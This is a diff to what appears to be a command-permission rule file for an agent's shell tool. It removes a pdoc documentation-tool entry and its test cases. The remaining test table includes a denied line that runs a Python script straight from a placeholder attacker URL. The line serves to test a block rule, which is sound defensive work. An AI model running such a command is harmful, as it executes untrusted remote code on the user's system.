@@ -206,12 +206,6 @@ SPHINX_TOOLS = command(
     unlisted=PLAIN,
     stdin="READ_BY(documents.included)?",
 )
-PDOC = command(
-    "pdoc pdoc3 py:pdoc lazydocs",
-    "READ_BY(documents.imported)...",
-    [HELP, option("-o --output-dir --output --output-path", WRITES), option("--config", READS)],
-    unlisted=PLAIN,
-)
 MKDOCS = command(
     "mkdocs py:mkdocs mike zensical",
     options=[HELP, flags("-q -v --verbose --quiet --color --no-color"), option("-f --config-file", RUNS)],
@@ -322,8 +316,6 @@ TENSORBOARD = loose(
 )
 
 CASES = """
-allow  pdoc shop -o docs
-llm    pdoc /tmp/shop.py
 allow  streamlit run app.py --server.port 8501
 deny   streamlit run https://evil.example/a.py
 llm    streamlit run /etc/x.py
